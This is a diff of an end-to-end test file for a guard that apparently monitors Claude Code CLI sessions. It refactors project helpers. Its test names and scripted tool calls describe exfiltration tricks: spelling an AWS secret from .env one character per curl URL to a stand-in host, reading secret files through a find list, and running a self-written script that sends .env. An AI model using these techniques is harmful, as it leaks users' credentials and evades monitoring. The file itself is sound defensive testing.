@@ -15,28 +15,15 @@ import { spawnSync } from 'node:child_process';
 import { existsSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
-import { describeRun, e2eSkip, makeTempDir, runClaude, type RunClaudeResult, type Turn } from './harness/claude.ts';
+import { e2eSkip, makeTempDir, runClaude, type Turn } from './harness/claude.ts';
 import { cli, startSidecar, type RunningSidecar } from '../helpers/sidecar.ts';
 import { skipUnless } from '../helpers/skip.ts';
-import { activityRows, AWS_SECRET, startInstalledSidecar, toolTexts } from './harness/scenario.ts';
+import { activityRows, AWS_SECRET, ran, secretProject, startInstalledSidecar, toolTexts } from './harness/scenario.ts';
 
 const skip = e2eSkip();
 const HOST = 'collector.example.net';
 /** curl to https://HOST that can only reach loopback (the name pinned to 127.0.0.1), failing fast */
 const CURL = `curl -s -m 2 --resolve ${HOST}:443:127.0.0.1`;
-
-/** A project whose .env holds AWS_SECRET. */
-function project(prefix: string): string {
-  const dir = makeTempDir(prefix);
-  writeFileSync(join(dir, '.env'), `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}\n`);
-  return dir;
-}
-
-/** The run ended normally, with `n` tool results. */
-function ran(r: RunClaudeResult, n: number): void {
-  assert.equal(r.exitCode, 0, describeRun(r));
-  assert.equal(r.toolResults.length, n, toolTexts(r, 600));
-}
 
 const haveSqlite3 = spawnSync('sqlite3', ['-version'], { encoding: 'utf8' }).status === 0;
 
@@ -92,7 +79,7 @@ describe('flows across calls through the real Claude Code CLI', { skip }, () => 
   });
 
   test('a secret read from .env, then spelled one URL per character (curl of many URLs): denied, did not run', async () => {
-    const proj = project('e2e-urlseq');
+    const proj = secretProject('e2e-urlseq');
     const marker = join(proj, 'sent');
     const urls = [...AWS_SECRET].map((ch) => `https://${HOST}/px/${ch.charCodeAt(0)}.gif`).join(' ');
     const script: Turn[] = [
@@ -142,7 +129,7 @@ describe('flows across calls through the real Claude Code CLI', { skip }, () => 
   });
 
   test('secret files listed by find into a file, then read through it (cat $(cat found.lst)) and sent: denied, did not run', async () => {
-    const proj = project('e2e-listed');
+    const proj = secretProject('e2e-listed');
     const marker = join(proj, 'sent');
     const script: Turn[] = [
       [{ tool_use: { name: 'Bash', input: { command: `find . -name '.env*' > found.lst; cat found.lst`, description: 'find' } } }],
@@ -174,7 +161,7 @@ describe('flows across calls through the real Claude Code CLI', { skip }, () => 
   });
 
   test('a script the session wrote (Write), then ran with bash, that sends the .env it read: denied, did not run', async () => {
-    const proj = project('e2e-script');
+    const proj = secretProject('e2e-script');
     const marker = join(proj, 'sent');
     const scriptFile = join(proj, 'sync.sh');
     const script: Turn[] = [
@@ -213,7 +200,7 @@ describe('the session limit through the real Claude Code CLI', { skip }, () => {
   });
 
   test('with session.maxSessions 1, a second session while the first holds data and is busy is refused with the limit named; the first goes on', async () => {
-    const projA = project('e2e-limit-a');
+    const projA = secretProject('e2e-limit-a');
     const ready = join(projA, 'ready');
     const go = join(projA, 'go');
     const first = runClaude({
